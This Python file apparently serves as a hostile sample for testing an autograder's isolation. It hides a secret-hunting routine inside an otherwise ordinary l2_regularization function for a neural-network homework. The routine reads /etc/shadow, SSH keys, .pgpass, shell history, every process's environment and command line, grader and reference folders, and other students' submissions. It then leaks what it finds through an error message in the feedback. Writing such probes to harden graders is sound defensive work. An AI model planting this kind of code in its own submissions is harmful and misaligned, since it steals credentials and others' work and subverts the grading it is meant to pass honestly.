"""Hostile: l2_regularization hunts for secrets, the reference, the hidden cases and other files.

It reads its environment, every process's environment and command line it can find, the grader's
and the assignment's folders wherever they might be, other submissions, and private files. If it
finds anything, it puts what it found in an exception message (the feedback is the way out);
otherwise it returns the right answer. So a full score means it found nothing, and the tests also
check that the secret they put in the grader's environment appears nowhere in the report.
"""
import glob
import importlib
import os
import sys

import numpy as np

# assembled at run time so that this file's own text matches none of them
MARKERS = ["GRA" + "DER_", "sec" + "ret-", "TOK" + "EN", "PASS" + "WORD", "DATABASE" + "_URL",
           "CASE" + "_SETS", "trusted " + "grader", "forbidden" + "_imports"]
PLACES = [
    "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/etc/shadow", "/root/.bash_history",
    "/root/.ssh/id_rsa", "/root/.pgpass", "/etc/environment",
]
FOLDERS = [
    "/work/*/reference/hw5/*", "/work/*/grader/*.py", "/work/*/grader/*/*.py", "/work/*/submissions/*/*.py",
    "/work/*/.env", "/work/**/*.toml", "/tmp/*/*.py", "/tmp/*/*/*.py", "/tmp/*/reference/hw5/*",
    "/root/*/*.py", "/srv/*/*", "/app/*/*", "/home/*/*",
] + [entry + "/reference/hw5/*" for entry in sys.path] + [entry + "/grader/*/*.py" for entry in sys.path]
found = []
searched = False


def read(path):
    try:
        with open(path, "rb") as handle:
            text = handle.read(200000).decode("utf-8", "replace")
    except (OSError, ValueError):
        return
    for marker in MARKERS:
        if marker in text:
            at = text.index(marker)
            found.append(f"{path}: {text[max(0, at - 40):at + 80]}")
    if "/reference/" in path or "/grader/" in path or "/submissions/" in path:
        found.append(f"{path}: {text[:120]}")


def search():
    text = repr(dict(os.environ))
    for marker in MARKERS:
        if marker in text:
            found.append("environment: " + text)
    for path in PLACES:
        read(path)
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids + [str(os.getppid())]:
        read(f"/proc/{pid}/environ")
        read(f"/proc/{pid}/cmdline")
    for pattern in FOLDERS:
        try:
            paths = glob.glob(pattern, recursive=True)[:200]
        except OSError:
            continue
        for path in paths:
            read(path)
    for name in ("reference.hw5.solution", "reference.hw5.cases", "grader.engine.plan", "grader.settings"):
        try:
            module = importlib.import_module(name)
        except Exception:
            continue
        found.append(f"imported {name} from {getattr(module, '__file__', '?')}")


def fc_forward(x, w, b):
    out = x.dot(w) + b
    cache = (x, w, b)
    return out, cache


def fc_backward(grad_out, cache):
    x, w, b = cache
    grad_x = grad_out.dot(w.T)
    grad_w = x.T.dot(grad_out)
    grad_b = np.sum(grad_out, axis=0)
    return grad_x, grad_w, grad_b


def relu_forward(x):
    out = np.maximum(0, x)
    cache = x
    return out, cache


def relu_backward(grad_out, cache):
    x = cache
    grad_x = grad_out * (x > 0)
    return grad_x


def softmax_loss(x, y):
    N = x.shape[0]
    shifted = x - np.max(x, axis=1, keepdims=True)
    exp = np.exp(shifted)
    probs = exp / np.sum(exp, axis=1, keepdims=True)
    loss = -np.mean(np.log(probs[np.arange(N), y]))
    grad_x = probs.copy()
    grad_x[np.arange(N), y] -= 1
    grad_x /= N
    return loss, grad_x


def l2_regularization(w, reg):
    global searched
    if not searched:
        searched = True
        search()
    if found:
        raise ValueError("leaked: " + " | ".join(found))
    loss = 0.5 * reg * np.sum(w * w)
    grad_w = reg * w
    return loss, grad_w
